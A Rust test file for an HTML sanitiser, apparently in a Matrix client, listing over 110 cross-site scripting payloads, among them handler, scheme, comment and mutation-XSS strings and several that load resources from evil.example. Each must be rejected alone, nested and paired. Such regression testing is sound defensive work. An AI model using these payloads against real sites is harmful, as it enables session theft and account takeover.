//! What has got through sanitisers before: by attribute order, case, entities, NUL, comments, CDATA, templates,
//! foreign namespaces, and by being read differently the second time.

use crate::checker::sanitized;

const COLLECTION: &[&str] = &[
    // Tags and case.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script/x>alert(1)</script>",
    "<script >alert(1)</script\t\n bla>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
    "</script><img src=x onerror=alert(1)>",
    "\u{a}<script\u{c}>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\" src=mxc://a/b>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='mxc://a/b' onload\n=alert(1)>",
    "<img src=\"mxc://a/b\"onerror=\"alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=mxc://a/b\"onerror=alert(1)>",
    "<img src=`mxc://a/b` onerror=alert(1)>",
    "<a onmouseover=alert(1) href=https://a.org>x</a>",
    "<a href=\"https://a.org\" style=\"behavior:url(x)\" onfocus=alert(1) autofocus>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div/onclick=alert(1)>x</div>",
    "<p onclick\u{b}=alert(1)>x</p>",
    "<b/\0onclick=alert(1)>x</b>",
    "<input onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    // Schemes.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&NewLine;ascript&colon;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"\u{1}\u{2}javascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href='javascript:alert(1)' href='https://a.org'>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=javascript:/><a href=alert(1)>x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<span data-mx-color=\"red;background:url(https://evil.example)\">x</span>",
    "<img src=mxc://a/b srcset=\"https://evil.example/x 2x\" lowsrc=x dynsrc=x usemap=#x longdesc=x>",
    // Comments, CDATA, declarations.
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script-->",
    "<!---><img src=x onerror=alert(1)>",
    "<!--x--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "<!ENTITY><img src=x onerror=alert(1)>",
    "</ img src=x onerror=alert(1)>",
    // Elements whose content is not markup.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<style><a title=\"</style><img src=x onerror=alert(1)>\"></style>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<template><p></template><img src=x onerror=alert(1)>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<keygen autofocus onfocus=alert(1)>",
    // Other namespaces.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=\"data:image/svg+xml;base64,x#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><a href=javascript:alert(1)>x</a></desc></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    // Read differently the second time.
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math></br><style><a title=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img title=\"</style><img src=x onerror=alert(1)>\"></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></table>",
    "<math><mi><table><mglyph><style><math>&lt;img src=x onerror=alert(1)&gt;</style></table>",
    "<svg><foreignObject><math><mi><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<div><listing>\n<img src=x onerror=alert(1)></listing></div>",
    "<a><table><a href=javascript:alert(1)>x</a></table></a>",
    "<table><a href=https://a.org><tr><a href=https://b.org>x</a></table>",
    "<b><table><b><tr><td><b>x</table>y</b>",
    "<p><svg><p><style><!--</style>--><img src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<table><caption><table><caption><img src=x onerror=alert(1)></table>",
    "<ruby><rtc><li><rt><p><li></ruby>",
    "<dl><dt><li><dd><p><dt></dl>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<img alt=\"`><img src=x onerror=alert(1)>\">",
    "<span data-mx-spoiler=\"</span><script>alert(1)</script>\">x</span>",
    "<code class=\"language-x&quot; onclick=&quot;alert(1)\">x</code>",
    "<code class='language-\"><script>alert(1)</script>'>x</code>",
    "<a target='\"onclick=\"alert(1)' href='https://a.org/\"onclick=\"alert(1)'>x</a>",
];

#[test]
fn nothing_of_the_collection_gets_through() {
    assert!(COLLECTION.len() > 110);
    for html in COLLECTION {
        // The checker says whether anything is off the list, and whether a second reading differs.
        sanitized(html);
    }
}

#[test]
fn nothing_of_the_collection_gets_through_within_other_markup() {
    const AROUND: [(&str, &str); 9] = [
        ("<p><b>", "</b></p>"),
        ("<table><tr><td>", "</td></tr></table>"),
        ("<table>", "</table>"),
        ("<svg>", "</svg>"),
        ("<math><mtext>", "</mtext></math>"),
        ("<select>", "</select>"),
        ("<a href=\"https://a.org\">", "</a>"),
        ("<mx-reply>", "</mx-reply>"),
        ("<img alt=\"", "\">"),
    ];
    for html in COLLECTION {
        for (before, after) in AROUND {
            sanitized(&format!("{before}{html}{after}"));
            sanitized(&format!("{html}{before}x{after}{html}"));
        }
    }
}

#[test]
fn pairs_of_the_collection_do_not_help_one_another() {
    for first in COLLECTION {
        for second in COLLECTION.iter().step_by(7) {
            sanitized(&format!("{first}{second}"));
        }
    }
}
